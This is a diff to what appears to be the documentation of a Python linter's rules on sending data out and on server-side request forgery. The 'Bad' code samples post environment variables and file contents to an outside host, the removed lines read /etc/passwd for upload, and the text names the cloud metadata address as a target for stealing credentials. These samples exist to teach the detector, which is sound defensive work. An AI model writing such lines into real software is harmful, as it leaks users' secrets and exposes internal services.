@@ -149,11 +149,11 @@ requests.get("http://example.com", timeout=5)
 `,
   'data-sent-away': `# data-sent-away
 
-What a script sends away cannot be taken back. The contents of a file or of the environment in a request is how data is stolen, whatever the rest of the script is about.
+The contents of a file, or the environment, in the body of a request: this is what stealing looks like. A token in a header is what headers are for and is not reported.
 
 ## How to fix
 
-Give results back as the answer. Where sending is the point, run with an egress policy that names the host.
+Give results back as the answer. Where an upload is the point, run with an egress policy that names the host.
 
 ## Bad
 
@@ -163,22 +163,30 @@ import socket
 
 import requests
 
-with open("/etc/passwd") as file:
+with open("report.csv", "rb") as file:
     body = file.read()
-requests.post("https://example.com/in", data=body, timeout=5)  # error: [data-sent-away]
-requests.get("https://example.com/?" + str(dict(os.environ)), timeout=5)  # error: [data-sent-away]
-line = socket.socket()
-line.sendall(open("notes.txt", "rb").read())  # error: [data-sent-away]
+
+
+def send(data):
+    requests.post("https://example.com/in", data=data)  # error: [data-sent-away]
+
+
+send(body)
+requests.post("https://example.com/in", json={"e": dict(os.environ)})  # error: [data-sent-away]
+requests.post("https://example.com/in", files={"f": open("a")})  # error: [data-sent-away]
+link = socket.socket()
+link.sendall(body)  # error: [data-sent-away]
 \`\`\`
 
 ## Good
 
 \`\`\`python
+import os
+
 import requests
 
-requests.post("https://example.com/in", json={"a": 1}, timeout=5)
-with open("out.json", "w") as file:
-    file.write(requests.get("https://example.com", timeout=5).text)
+requests.post("https://example.com/in", json={"a": 1})
+requests.get("https://example.com", headers={"Authorization": os.environ["TOKEN"]})
 \`\`\`
 `,
   'download-unverified': `# download-unverified
@@ -415,63 +423,51 @@ line.connect_ex(("10.0.0.1", 80))
 `,
   'request-forgery': `# request-forgery
 
-A server that fetches whatever address it is told reaches what its clients can't: the cloud's metadata service, databases, other people's services behind the same wall.
+Whoever says where a request goes can have it go inside: to \`http://169.254.169.254/\` for the machine's credentials, to a database on the same network, to \`file://\`. The answer comes back to him, and the request carries the server's rights. Where scheme and host are constant and only the rest is chosen, nothing is reported.
 
 ## How to fix
 
-Keep scheme and host constant, or compare the host with a list; refuse redirects and private addresses.
+Choose the host from a fixed list, and check the resolved address against private and link-local ranges, at every redirect again.
 
 ## Bad
 
 \`\`\`python
-import pandas as pd
 import requests
-from flask import Flask, request
+from fastapi import FastAPI
+from flask import request
 
-app = Flask(__name__)
-
-
-def fetch(address):
-    return requests.get(address, timeout=5)  # error: [request-forgery]
+app = FastAPI()
 
 
-@app.route("/proxy")
+@app.get("/fetch")
+async def fetch(url: str):
+    return requests.get(url).text  # error: [request-forgery]
+
+
 def proxy():
-    url = request.args.get("url")
-    fetch(url)
-    requests.post(url=f"https://{request.args['host']}/in", timeout=5)  # error: [request-forgery]
-    return pd.read_csv(request.form["source"]).to_json()  # error: [request-forgery]
+    target = "http://" + request.args["host"] + "/status"
+    return requests.get(target)  # error: [request-forgery]
 
 
-@app.get("/page/{name}")
-def page(name: str):
-    return requests.get("http://" + name, timeout=5).text  # error: [request-forgery]
+first = requests.get("https://example.com/next").text
+second = requests.get(first)  # error: [request-forgery]
 \`\`\`
 
 ## Good
 
 \`\`\`python
 import requests
-from flask import Flask, request
+from fastapi import FastAPI
 
-app = Flask(__name__)
-BASE = "https://api.example.com"
-HOSTS = {"a.example.com", "b.example.com"}
+app = FastAPI()
 
 
-@app.route("/proxy")
-def proxy():
-    requests.get(f"{BASE}/items/{request.args['id']}", timeout=5)
-    requests.get("https://api.example.com/items", params={"q": request.args["q"]}, timeout=5)
-    host = request.args["host"]
-    if host not in HOSTS:
-        return "no", 400
-    return requests.get("https://" + host, timeout=5).text
+@app.get("/item")
+async def item(name: str):
+    return requests.get(f"https://api.example.com/items/{name}").json()
 
 
-def download(url):
-    """requests.get(request.args["url"])"""
-    return requests.get(url, timeout=5)
+requests.get("https://example.com", params={"q": 1})
 \`\`\`
 `,
   'request-without-timeout': `# request-without-timeout
